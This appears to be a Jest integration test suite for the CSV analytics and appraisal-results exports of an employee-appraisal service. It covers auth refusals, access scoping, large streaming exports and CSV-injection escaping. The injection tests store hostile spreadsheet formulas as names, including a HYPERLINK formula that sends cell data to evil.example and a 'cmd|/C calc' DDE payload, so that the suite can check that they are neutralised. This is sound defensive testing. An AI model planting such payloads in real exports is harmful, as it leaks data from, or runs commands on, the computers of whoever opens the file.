import { type IncomingMessage, type ServerResponse } from 'node:http';
import { parse } from 'csv-parse/sync';
import { Role } from '../../src/core/auth/role';
import { givenApprovedPlans } from '../support/approved-plans';
import { TestApp } from '../support/test-app';
import { wit } from './evaluation-helpers';
import {
  type AnalyticsFixture,
  ANALYTICS_QUERY,
  type AnalyticsOut,
  buildAnalyticsFixture,
  dbIdOf,
  exportUrl,
  PREDIKATS,
  unitGid,
} from './analytics-helpers';
import { Planning } from './planning-helpers';
import { CSV_PAYLOADS, naivePieces, readsAsText, spreadsheetCells } from '../support/csv-readers';

/**
 * The CSV exports of issue 6 over HTTP: `/exports/analytics/<breakdown>.csv` and `/exports/appraisal-results.csv`
 * with the same bearer token and policy as GraphQL, parsed with csv-parse and compared with the GraphQL figures;
 * the refusals (401, 400, 403, 404); CSV injection; and a 100,000-row export.
 */

type Row = Record<string, string>;

interface CsvResponse {
  status: number;
  headers: Headers;
  text: string;
  rows: Row[];
}

async function getCsv(url: string, token: string | null, extra: Record<string, string> = {}): Promise<CsvResponse> {
  const res = await fetch(url, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...extra } });
  const text = await res.text();
  const csv = res.headers.get('content-type')?.startsWith('text/csv') ?? false;
  return { status: res.status, headers: res.headers, text, rows: csv ? (parse(text, { columns: true }) as Row[]) : [] };
}

/** A GraphQL figure as its CSV cell: null is empty, booleans and numbers as text. */
const cell = (v: unknown): string => (v === null || v === undefined ? '' : String(v));

describe('analytics CSV exports', () => {
  let app: TestApp;
  let fx: AnalyticsFixture;
  let pid: string;

  beforeAll(async () => {
    app = await TestApp.start();
    fx = await buildAnalyticsFixture(app);
    pid = fx.year.period.id;
    app.clock.set(wit('2028-01-10'));
  }, 120_000);
  afterAll(() => app?.stop());

  const url = (path: string, params: Record<string, string | undefined> = {}) =>
    exportUrl(app, path, { unitId: unitGid(fx.dinkes), periodId: pid, ...params });
  const graphql = async (token: string, vars: Record<string, unknown> = {}) =>
    (await app.data<{ analytics: AnalyticsOut }>(ANALYTICS_QUERY(), { u: unitGid(fx.dinkes), p: pid, ...vars }, token))
      .analytics;

  /** The CSV rows a list of GraphQL groups should give, as strings, in the export's columns. */
  const expectedRows = {
    distribution: (a: AnalyticsOut) =>
      a.distribution.map((g) => ({
        key: g.key,
        label: g.label,
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        pending: cell(g.pending),
        ...Object.fromEntries(g.counts.map((c) => [c.predikat, cell(c.count)])),
        unit_rating: cell(g.unitRating),
        curve_violations: g.violations.map((v) => v.rule).join('; '),
      })),
    completion: (a: AnalyticsOut) =>
      a.completion.map((g) => ({
        key: g.key,
        label: g.label,
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        draft: cell(g.draft),
        submitted: cell(g.submitted),
        returned: cell(g.returned),
        approved: cell(g.approved),
        revising: cell(g.revising),
        evaluated: cell(g.evaluated),
        final: cell(g.final),
        planning_overdue: cell(g.planningOverdue),
        evaluation_overdue: cell(g.evaluationOverdue),
      })),
    achievement: (a: AnalyticsOut) =>
      a.achievement.map((g) => ({
        key: g.key,
        label: g.label,
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        indicators: cell(g.indicators),
        average_achievement: cell(g.averageAchievement),
        met: cell(g.met),
      })),
    responsiveness: (a: AnalyticsOut) =>
      a.responsiveness.map((g) => ({
        key: g.key,
        label: g.label,
        employees: cell(g.employees),
        suppressed: cell(g.suppressed),
        realizations: cell(g.realizations),
        realization_feedback_share: cell(g.realizationFeedbackShare),
        median_hours_to_feedback: cell(g.medianHoursToFeedback),
        activities: cell(g.activities),
        activity_review_share: cell(g.activityReviewShare),
        median_hours_to_review: cell(g.medianHoursToReview),
      })),
  };
  const KINDS = ['distribution', 'completion', 'achievement', 'responsiveness'] as const;

  it.each(KINDS)('%s.csv for HR matches the GraphQL figures, with CSV headers and no caching', async (kind) => {
    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.hr);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${kind}-2027-${fx.dinkes.code}.csv"`);
    expect(res.headers.get('cache-control')).toMatch(/no-store/);
    expect(res.rows).toEqual(expectedRows[kind](await graphql(fx.tokens.hr)));
    expect(res.rows.length).toBeGreaterThan(0);
  });

  it.each(KINDS)('%s.csv for an analyst matches the GraphQL figures: nothing of a year not closed', async (kind) => {
    const res = await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst);
    expect(res.status).toBe(200);
    const a = await graphql(fx.tokens.analyst);
    expect(res.rows).toEqual(expectedRows[kind](a));
    // The year is being evaluated: nothing is released to analysts before it is closed.
    expect(res.rows).toEqual([]);
  });

  it('a breakdown by position kind and a unit without subunits reach the export as parameters', async () => {
    const kinds = await getCsv(url('analytics/distribution.csv', { breakdown: 'POSITION_KIND' }), fx.tokens.hr);
    expect(kinds.rows).toEqual(expectedRows.distribution(await graphql(fx.tokens.hr, { b: 'POSITION_KIND' })));
    const own = await getCsv(
      url('analytics/completion.csv', { unitId: unitGid(fx.pkm), includeSubunits: 'false' }),
      fx.tokens.hr,
    );
    expect(own.rows.map((r) => [r.key, r.employees, r.draft, r.submitted, r.approved, r.evaluated])).toEqual([
      [unitGid(fx.pkm), '9', '1', '1', '1', '6'],
    ]);
  });

  it('appraisal-results.csv: one row per plan for HR, summing to the distribution and completion figures', async () => {
    const res = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="appraisal-results-2027-${fx.dinkes.code}.csv"`,
    );
    expect(res.headers.get('cache-control')).toMatch(/no-store/);
    expect(Object.keys(res.rows[0]!)).toEqual([
      'nip',
      'name',
      'unit_code',
      'unit_name',
      'position_title',
      'position_kind',
      'grade',
      'status',
      'result_rating',
      'behavior_rating',
      'predikat',
      'credit_points',
      'objection',
      'delivered_at',
    ]);
    expect(res.rows).toHaveLength(14);
    const nips = [fx.kadinkes, fx.head, fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)]
      .map((x) => x.nip)
      .sort();
    expect(res.rows.map((r) => r.nip).sort()).toEqual(nips);
    const hr = await graphql(fx.tokens.hr);
    const units = { [fx.dinkes.code]: fx.dinkes, [fx.pkm.code]: fx.pkm, [fx.pustu.code]: fx.pustu };
    for (const [code, unit] of Object.entries(units)) {
      const mine = res.rows.filter((r) => r.unit_code === code);
      const dist = hr.distribution.find((g) => g.key === unitGid(unit))!;
      expect(mine).toHaveLength(dist.employees);
      expect(PREDIKATS.map((p) => mine.filter((r) => r.predikat === p).length)).toEqual(
        dist.counts.map((c) => c.count),
      );
      expect(mine.filter((r) => r.predikat === '').length).toBe(dist.pending);
      const done = hr.completion.find((g) => g.key === unitGid(unit))!;
      const count = (s: string) => mine.filter((r) => r.status === s).length;
      expect([
        count('DRAFT'),
        count('SUBMITTED'),
        count('RETURNED'),
        count('APPROVED'),
        count('REVISING'),
        count('EVALUATED'),
        count('FINAL'),
      ]).toEqual([done.draft, done.submitted, done.returned, done.approved, done.revising, done.evaluated, done.final]);
    }
    // The finalized Pustu plans carry their delivery; the row of the lead reads as rated.
    const leadRow = res.rows.find((r) => r.nip === fx.lead.nip)!;
    expect(leadRow).toMatchObject({
      status: 'FINAL',
      result_rating: 'SESUAI_EKSPEKTASI',
      behavior_rating: 'DI_BAWAH_EKSPEKTASI',
      predikat: 'KURANG_MISCONDUCT',
      unit_name: 'Pustu Walesi',
    });
    expect(leadRow.delivered_at).not.toBe('');
  });

  it('appraisal-results.csv for a supervisor: the people below her only; for a peer: the header alone', async () => {
    const head = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.head));
    expect(head.status).toBe(200);
    const below = [fx.lead, ...fx.n.map((m) => m.owner), ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort();
    expect(head.rows.map((r) => r.nip).sort()).toEqual(below);
    const peer = await getCsv(url('appraisal-results.csv'), await fx.e.token(fx.n[0]!.owner));
    expect(peer.status).toBe(200);
    expect(peer.rows).toEqual([]);
    expect(peer.text.trim().split('\n')).toHaveLength(1);
    // A scoped HR admin of the Pustu: its four plans; the Puskesmas is not hers (404).
    const scoped = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.scopedHr);
    expect(scoped.rows.map((r) => r.nip).sort()).toEqual(
      [fx.lead, ...fx.b.map((m) => m.owner)].map((x) => x.nip).sort(),
    );
    expect((await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pkm) }), fx.tokens.scopedHr)).status).toBe(
      404,
    );
  });

  it('refuses: 401 without or with a bad token, 400 for missing or bad parameters, 404 for an unknown unit or export, 403 for analysts on row-level results', async () => {
    const paths = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
    const expired = await app.token('bps-analytics', { roles: [Role.ANALYST], expiresIn: -60 });
    const forged = await app.token('bps-analytics', {
      roles: [Role.ANALYST],
      secret: 'not-the-secret-of-this-server-0123456789abcdef',
    });
    for (const path of paths) {
      for (const token of [null, 'garbage', expired, forged]) {
        const res = await getCsv(url(path), token);
        expect([path, res.status, res.text.includes('UNAUTHENTICATED')]).toEqual([path, 401, true]);
      }
      expect([
        path,
        (await getCsv(url(path, { unitId: undefined, periodId: undefined }), fx.tokens.hr)).status,
      ]).toEqual([path, 400]);
      expect([path, (await getCsv(exportUrl(app, path, { unitId: unitGid(fx.dinkes) }), fx.tokens.hr)).status]).toEqual(
        [path, 400],
      );
      expect([path, (await getCsv(url(path, { includeSubunits: 'maybe' }), fx.tokens.hr)).status]).toEqual([path, 400]);
      expect([path, (await getCsv(url(path, { breakdown: 'GENDER' }), fx.tokens.hr)).status]).toEqual([path, 400]);
      expect([
        path,
        (await getCsv(url(path, { unitId: unitGid({ id: 987_654 } as never) }), fx.tokens.hr)).status,
      ]).toEqual([path, 404]);
      expect([path, (await getCsv(url(path, { periodId: unitGid(fx.pkm) }), fx.tokens.hr)).status]).toEqual([
        path,
        404,
      ]);
      expect([path, (await getCsv(url(path), fx.tokens.integration)).status]).toEqual([path, 404]);
    }
    expect((await getCsv(url('analytics/salaries.csv'), fx.tokens.hr)).status).toBe(404);
    expect((await getCsv(url('analytics/distribution.json'), fx.tokens.hr)).status).toBe(404);
    const analyst = await getCsv(url('appraisal-results.csv'), fx.tokens.analyst);
    expect(analyst.status).toBe(403);
    expect(analyst.rows).toEqual([]);
    expect(analyst.text).not.toContain(fx.n[0]!.owner.nip);
  });

  it('prefixes formula-looking names with an apostrophe (CSV injection), in labels and in row-level cells', async () => {
    const escape = (name: string) => app.db.dataSource.driver.escape(name);
    const [oldUnit, oldName] = [fx.pustu.name, fx.b[2]!.owner.name];
    const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, ['+Pustu Walesi', fx.pustu.rowId]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [nasty, fx.b[2]!.owner.rowId]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
      '@SUM(1+1)',
      fx.b[1]!.owner.rowId,
    ]);
    await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
      '-2+3',
      fx.b[0]!.owner.rowId,
    ]);
    try {
      const dist = await getCsv(url('analytics/distribution.csv'), fx.tokens.hr);
      expect(dist.rows.find((r) => r.key === unitGid(fx.pustu))!.label).toBe("'+Pustu Walesi");
      const rows = await getCsv(url('appraisal-results.csv', { unitId: unitGid(fx.pustu) }), fx.tokens.hr);
      const byNip = Object.fromEntries(rows.rows.map((r) => [r.nip, r]));
      expect(byNip[fx.b[2]!.owner.nip]).toMatchObject({ name: `'${nasty}`, unit_name: "'+Pustu Walesi" });
      expect(byNip[fx.b[1]!.owner.nip]!.name).toBe("'@SUM(1+1)");
      expect(byNip[fx.b[0]!.owner.nip]!.name).toBe("'-2+3");
      // Ordinary names are left alone.
      expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
    } finally {
      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [oldUnit, fx.pustu.rowId]);
      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [
        oldName,
        fx.b[2]!.owner.rowId,
      ]);
    }
  });

  it('no cell of any export starts a formula, read with comma, semicolon, tab or bar as the separator (issue 15: `Hendrik;=cmd|…` with Indonesian settings)', async () => {
    const escape = (name: string) => app.db.dataSource.driver.escape(name);
    const people = [...fx.n, ...fx.b];
    const units = [fx.dinkes, fx.pkm, fx.pustu];
    const saved = {
      people: (await app.db.manager.query(
        `SELECT id, name FROM ${escape('employee')} WHERE id IN (${people.map((m) => m.owner.rowId).join(', ')})`,
      )) as Array<{ id: number; name: string }>,
      titles: (await app.db.manager.query(
        `SELECT id, position_title FROM ${escape('appraisal')} WHERE id IN (${people.map((m) => dbIdOf(m.plan.id)).join(', ')})`,
      )) as Array<{ id: number; position_title: string }>,
      units: (await app.db.manager.query(
        `SELECT id, name FROM ${escape('unit')} WHERE id IN (${units.map((u) => u.rowId).join(', ')})`,
      )) as Array<{ id: number; name: string }>,
    };
    const payload = (i: number) => CSV_PAYLOADS[i % CSV_PAYLOADS.length]!;
    for (const [i, m] of people.entries()) {
      await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [payload(i), m.owner.rowId]);
      await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
        payload(i + people.length),
        dbIdOf(m.plan.id),
      ]);
    }
    for (const [i, u] of units.entries())
      await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [payload(i + 6), u.rowId]);
    try {
      const files = [...KINDS.map((k) => `analytics/${k}.csv`), 'appraisal-results.csv'];
      const texts: string[] = [];
      for (const path of files) {
        for (const breakdown of ['UNIT', 'POSITION_KIND', 'GRADE']) {
          const res = await getCsv(url(path, { breakdown }), fx.tokens.hr);
          expect([path, res.status]).toEqual([path, 200]);
          texts.push(res.text);
        }
      }
      // Every payload reached an export (names, plan titles, unit labels).
      const results = await getCsv(url('appraisal-results.csv'), fx.tokens.hr);
      const renamed = new Set(people.map((m) => m.owner.nip));
      expect(
        results.rows
          .filter((r) => renamed.has(r.nip!))
          .map((r) => [r.name!.includes("'"), r.position_title!.includes("'")]),
      ).toEqual(people.map(() => [true, true]));
      for (const text of texts) {
        // Every field is quoted.
        expect(text.split('\n')[0]).toMatch(/^"[a-z_]+"(,"[A-Za-z_]+")*$/);
        for (const delimiter of [',', ';', '\t', '|'])
          expect([delimiter, spreadsheetCells(text, delimiter).filter((c) => !readsAsText(c))]).toEqual([
            delimiter,
            [],
          ]);
        expect(naivePieces(text).filter((c) => !readsAsText(c))).toEqual([]);
      }
      // A strict CSV reader gets the names back, apostrophes added only where a cell could begin a formula.
      const byNip = Object.fromEntries(results.rows.map((r) => [r.nip, r]));
      expect(byNip[people[CSV_PAYLOADS.indexOf("Hendrik;=cmd|'/C calc'!A0;x")]!.owner.nip]!.name).toBe(
        "Hendrik;'=cmd|'/C calc'!A0;x",
      );
      expect(byNip[fx.lead.nip]!.name).toBe('Lead Pustu');
    } finally {
      for (const r of saved.people)
        await app.db.manager.query(`UPDATE ${escape('employee')} SET name = ? WHERE id = ?`, [r.name, r.id]);
      for (const r of saved.titles)
        await app.db.manager.query(`UPDATE ${escape('appraisal')} SET position_title = ? WHERE id = ?`, [
          r.position_title,
          r.id,
        ]);
      for (const r of saved.units)
        await app.db.manager.query(`UPDATE ${escape('unit')} SET name = ? WHERE id = ?`, [r.name, r.id]);
    }
  });

  it('an analyst gets the four breakdowns in one GraphQL request and as CSV, the same figures', async () => {
    const a = await graphql(fx.tokens.analyst);
    for (const kind of KINDS)
      expect((await getCsv(url(`analytics/${kind}.csv`), fx.tokens.analyst)).rows).toEqual(expectedRows[kind](a));
    expect(dbIdOf(pid)).toBeGreaterThan(0);
  });
});

// ---- A 100,000-row export ------------------------------------------------------------------------------------

const ROWS = 100_000;

/**
 * Every line of a 100,000-row export arrives, and waiting for the client adds no listener per wait. That it streams
 * in flat memory is measured by `npm run reliability:analytics-export` (`reliability/analytics-export-memory.ts`):
 * a heap bound inside the suite depends on what else the process holds.
 */
describe('a 100,000-row appraisal-results export', () => {
  let app: TestApp;
  let lines = 0;
  /** The most 'close' listeners the server's response of the export had at once while it streamed. */
  let maxCloseListeners = 0;

  beforeAll(async () => {
    app = await TestApp.start();
    const p = await new Planning(app).init();
    app.clock.set('2027-01-04T01:00:00Z');
    const period = await p.openPeriod(2027);
    const unitId = await givenApprovedPlans(app, period.id, ROWS);
    // One export, streamed once for both tests below: they read what it did, neither depends on the other.
    let response: ServerResponse | undefined;
    const onRequest = (req: IncomingMessage, res: ServerResponse) => {
      if (req.url?.startsWith('/exports/appraisal-results.csv')) response = res;
    };
    // The server runs in this process: watch its response object for listeners piling up per backpressure wait.
    app.server.httpServer.prependListener('request', onRequest);
    const sampleListeners = () => {
      if (response) maxCloseListeners = Math.max(maxCloseListeners, response.listenerCount('close'));
    };
    const timer = setInterval(sampleListeners, 5);
    try {
      const res = await fetch(exportUrl(app, 'appraisal-results.csv', { unitId, periodId: period.id }), {
        headers: { authorization: `Bearer ${p.hr}` },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const reader = res.body!.getReader();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        for (let i = 0; i < value.length; i++) if (value[i] === 10) lines += 1;
        sampleListeners();
      }
    } finally {
      clearInterval(timer);
      app.server.httpServer.off('request', onRequest);
    }
  }, 180_000);
  afterAll(() => app?.stop());

  it('streams 100,001 lines (a header and a line per plan)', () => {
    expect(lines).toBe(ROWS + 1);
  });

  it('adds no listener per backpressure wait while streaming (none left behind on the response until it ends)', () => {
    // Each wait for 'drain' must not leave a 'close'/'error' listener on the response: with one per wait they pile
    // up with the size of the export (Node warns "MaxListenersExceededWarning … close listeners added to [ServerResponse]").
    expect(maxCloseListeners).toBeGreaterThan(0);
    expect(maxCloseListeners).toBeLessThanOrEqual(10);
  });
});
